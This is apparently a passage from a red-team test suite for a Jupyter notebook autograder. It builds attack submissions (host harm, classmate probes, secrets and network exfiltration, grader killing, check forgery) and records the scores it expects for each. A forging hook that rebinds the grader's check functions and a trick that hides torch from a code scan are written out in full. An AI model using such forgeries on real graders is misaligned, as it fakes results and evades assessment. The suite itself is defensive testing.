             "ex_jacobian_check": N}), error="died", messages={"ex_cross_entropy_check": "malformed"})
    add("big_frame_300mb", lambda c: sub01(cross=BIG_FRAME),
        (2, {"ex_softmax_check": P, "ex_cross_entropy_check": E, "ex_grad_logits_check": N,
             "ex_jacobian_check": N}), error="300 MB message")
    for name, code, why in (("garbage_frame", GARBAGE_FRAME, "MB message"),
                            ("nested_frame", NESTED_FRAME, "not JSON")):
        add(name, lambda c, code=code: sub01(cross=code),
            (2, {"ex_softmax_check": P, "ex_cross_entropy_check": E, "ex_grad_logits_check": N,
                 "ex_jacobian_check": N}), error=why)
    add("overflow_shape", lambda c: sub01(cross=OVERFLOW_SHAPE),
        expect01(2, softmax=P), messages={"ex_cross_entropy_check": "malformed"})
    add("deep_json", lambda c: deep_json(), (0, {g: N for g in TESTS01}), error="nested deeper")
    add("many_cells", lambda c: many_cells(), (0, {g: N for g in TESTS01}), error="more than the 2000")

    # 4. forgery inside the interpreter: nothing solved (or one), nothing earned beyond it
    forged = expect01(0)
    add("forge_noop", lambda c: wrong01({"ex_softmax": FORGE_NOOP}), forged,
        messages={"ex_softmax_check": "never reached"})
    add("forge_expected_as_got", lambda c: wrong01({"ex_softmax": FORGE_EXPECTED_AS_GOT}), forged,
        messages={"ex_softmax_check": "does not match the instructor's solution"})
    add("forge_frame_walk", lambda c: sub01(FORGE_FRAME_WALK, WRONG_CROSS, WRONG_GRAD, WRONG_JAC), forged)
    add("forge_patch_numpy_torch", lambda c: wrong01({"ex_softmax": FORGE_PATCH_LIBS}), forged)
    add("forge_rng_zero_inputs", lambda c: wrong01({"ex_softmax": FORGE_RNG}), forged)
    add("forge_code_swap_expected", lambda c: wrong01({"ex_softmax": FORGE_CODE_SWAP_EXPECTED}), forged)
    add("forge_observers_cleared", lambda c: wrong01({"ex_softmax": FORGE_OBSERVERS_CLEARED}), forged)
    add("forge_observer_fake", lambda c: wrong01({"ex_softmax": FORGE_OBSERVER_FAKE}), forged)
    add("forge_settrace", lambda c: wrong01({"ex_softmax": FORGE_SETTRACE}), forged)
    add("forge_lazy_array", lambda c: sub01(FORGE_LAZY, "pass", "pass", "pass"), forged)
    add("forge_module_swap", lambda c: wrong01(top=[FORGE_MODULE_SWAP]), forged)
    add("forge_input_transformer", lambda c: wrong01({"ex_softmax": FORGE_TRANSFORMER}), forged)
    add("forge_thread", lambda c: wrong01({"ex_softmax": FORGE_THREAD}),
        (0, {g: {F, E, N} for g in TESTS01}), error=ANY)
    add("forge_status_ok", lambda c: sub01(FORGE_STATUS_OK + "\n\n" + WRONG_SOFTMAX, None, None, None), forged)
    add("forge_hijack_solves_one", lambda c: sub01(SOFTMAX, FORGE_HIJACK, WRONG_GRAD, WRONG_JAC),
        expect01(2, softmax=P))
    add("forge_noop_solves_one", lambda c: sub01(SOFTMAX, FORGE_NOOP + "\n\n" + WRONG_CROSS, WRONG_GRAD, WRONG_JAC),
        expect01(2, softmax=P))

    # 1. host harm, 2. cross-student, 5. secrets: softmax solved, the attack in the next cell
    def probe(code_of):
        return lambda c: sub01(cross=code_of(c))

    add("host_harm", probe(lambda c: _code(HOST_HARM, TARGETS=host_targets(c), PWNED=PWNED, MARK=MARK,
                                           DAEMON=_code(DAEMON, PWNED=PWNED))),
        expect01(2, softmax=P), messages={"ex_cross_entropy_check": "RT-HOST"})
    add("host_last_cell", lambda c: sub01(
        after={"ex_jacobian_check": [_code(HOST_LAST_CELL, MARK=MARK, DAEMON=_code(DAEMON, PWNED=PWNED),
                                           TARGETS=host_targets(c)["overwrite"])]}),
        expect01(2, softmax=P))
    add("cross_probe", probe(lambda c: _code(CROSS_PROBE, CLASSMATES=list(map(str, c.classmates)),
                                             PORT=c.port, ABSTRACT=c.abstract, MARK=MARK)),
        expect01(2, softmax=P), messages={"ex_cross_entropy_check": "RT-CROSS"})
    add("kill_grader", probe(lambda c: KILL_GRADER),
        (2, {"ex_softmax_check": P, **{g: {F, E, N} for g in TESTS01[1:]}}), error=ANY)
    add("secrets_probe", probe(lambda c: _code(SECRETS_PROBE, HOME=str(c.home), SOURCE=str(SOURCE01),
                                               REPORT=str(c.reports[0]), CLASSMATES=list(map(str, c.classmates)))),
        expect01(2, softmax=P), messages={"ex_cross_entropy_check": "RT-SECRETS"})
    add("net_exfil", probe(lambda c: _code(NET_EXFIL, PORT=c.port, ABSTRACT=c.abstract)),
        expect01(2, softmax=P), messages={"ex_cross_entropy_check": "RT-NET"})
    add("hidden_exfil", lambda c: sub01(SOFTMAX, CROSS, GRAD, HIDDEN_EXFIL),
        expect01(7, softmax=P, cross_entropy=P, grad_logits=P), messages={"ex_jacobian_check": "RT-HIDDEN"})
    add("classmate_late", lambda c: sub01(SOFTMAX, CROSS, GRAD_NO_MEAN, JAC),
        expect01(6, softmax=P, cross_entropy=P, grad_logits=F, jacobian=P))
    return a


# ----- 04: the module framework (hidden tests already without expected values) ----------------------
SOLUTION_IDS04 = ("ex_linear_backward", "ex_tanh_backward", "ex_momentum", "ex_xavier")
STUB = "# YOUR CODE HERE\n        raise NotImplementedError()"
LINEAR_BODY = """self.weight.grad += self.x.T @ dL_dy
        self.bias.grad += dL_dy.sum(axis=0)
        return dL_dy @ self.weight.value.T"""
LINEAR_WRONG = """self.weight.grad = self.x.T @ dL_dy  # = instead of +=
        self.bias.grad = dL_dy.sum(axis=0)
        return dL_dy @ self.weight.value.T"""
LINEAR_HIDDEN_TORCH = """# autograd does it for me; the hidden test greps my code for 'torch', so build the name
        T = globals()["tor" + "ch"]
        x_t, W_t, b_t = (T.tensor(a, requires_grad=True) for a in (self.x, self.weight.value, self.bias.value))
        (x_t @ W_t + b_t).backward(T.from_numpy(dL_dy))
        self.weight.grad += W_t.grad.numpy()
        self.bias.grad += b_t.grad.numpy()
        return x_t.grad.numpy()"""
TANH_BODY = "return dL_dy * (1 - self.y ** 2)"
TANH_WRONG = "return dL_dy * (1 - np.tanh(dL_dy) ** 2)"
MOMENTUM_BODY = """for i, p in enumerate(self.params):
            if self.velocity[i] is None:
                self.velocity[i] = p.grad.copy()
            else:
                self.velocity[i] = self.momentum * self.velocity[i] + p.grad
            p.value -= self.lr * self.velocity[i]"""
MOMENTUM_WRONG = """for p in self.params:
            p.value -= self.lr * p.grad  # no momentum at all"""
XAVIER_BODY = """a = np.sqrt(6 / (n_in + n_out))
    return rng.uniform(-a, a, size=(n_in, n_out)), np.zeros(n_out)"""
XAVIER_WRONG = """return rng.normal(0, 0.01, size=(n_in, n_out)), np.zeros(n_out)"""


def sub04(linear, tanh, momentum, xavier, *, after=None, top=()):
    nb = notebook(EXERCISE04, (), (), after, top)
    for gid, body in zip(SOLUTION_IDS04, (linear, tanh, momentum, xavier)):
        cell = nb.cells[_index(nb, gid)]
        stub = STUB if gid != "ex_xavier" else STUB.replace("\n        ", "\n    ")
        assert stub in cell.source, f"the stub of {gid} changed"
        cell.source = cell.source.replace(stub, body)
    return nb


def expect04(score: float, **statuses) -> tuple[float, dict]:
    return score, {gid: statuses.get(gid.removesuffix("_check").removeprefix("ex_"), F) for gid in TESTS04}


def attacks04() -> list[Attack]:
    a = []

    def add(name, build, expectation, error=None, messages=None, xfail=None):
        score, statuses = expectation
        a.append(Attack(name, build, score, statuses, error, messages or {}, xfail))

    add("honest04", lambda c: sub04(LINEAR_BODY, TANH_BODY, MOMENTUM_BODY, XAVIER_BODY),
        expect04(10, linear_backward=P, tanh_backward=P, momentum=P, xavier=P))
    wrong = (LINEAR_WRONG, TANH_WRONG, MOMENTUM_WRONG, XAVIER_WRONG)
    add("forge_expected_as_got04", lambda c: sub04(*wrong, top=[FORGE_EXPECTED_AS_GOT.replace(
        "expect_close, expect_equal = _forge(expect_close), _forge(expect_equal)",
        "from course_lib.checks import expect_close as _c, expect_equal as _e\n"
        "def _late(cell):\n"
        "    # rebind after the setup cell imported the checks, before any test runs\n"
        "    ns = get_ipython().user_ns\n"
        "    for name in ('expect_close', 'expect_equal'):\n"
        "        if name in ns and not getattr(ns[name], 'forged', False):\n"
        "            ns[name] = _forge(ns[name])\n"
        "get_ipython().events.register('pre_run_cell', _late)")]),
        expect04(0))
    add("hidden_feedback04", lambda c: sub04(LINEAR_BODY, TANH_BODY, MOMENTUM_BODY, XAVIER_BODY, after={
        "ex_linear_backward_check": [FEEDBACK_EXFIL]}),
        expect04(10, linear_backward=P, tanh_backward=P, momentum=P, xavier=P))
    add("forge_hidden_torch04", lambda c: sub04(LINEAR_HIDDEN_TORCH, TANH_WRONG, MOMENTUM_WRONG, XAVIER_WRONG),
        expect04(0), xfail="documented limit (README: values, not method): the hidden test's "
        "library_calls() reads the method's syntax tree for 'torch', so autograd reached through "
        "globals()['tor' + 'ch'] earns the points of an exercise that forbids libraries")
    return a


def write(attacks: list[Attack], ctx: Context, names: dict[str, str] | None = None) -> list[Path]:
    """Write each attack as ``ctx.folder/<name>.ipynb``; returns the paths in order."""
    ctx.folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for attack in attacks:
        path = ctx.folder / f"{(names or {}).get(attack.name, attack.name)}.ipynb"
        built = attack.build(ctx)
        if isinstance(built, str):
            path.write_text(built, encoding="utf-8")
        else:
            nbformat.write(built, str(path))
        paths.append(path)
    return paths


def processes_with(marker: str) -> list[str]:
    """``pid: command line`` of every process (but this one) whose command line holds ``marker``."""
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            cmd = Path(f"/proc/{pid}/cmdline").read_bytes()
        except OSError:
            continue
        if marker.encode() in cmd and int(pid) != os.getpid():
            shown = cmd.replace(b"\0", b" ")[:200].decode(errors="replace")
            found.append(f"{pid}: {shown}")
    return found
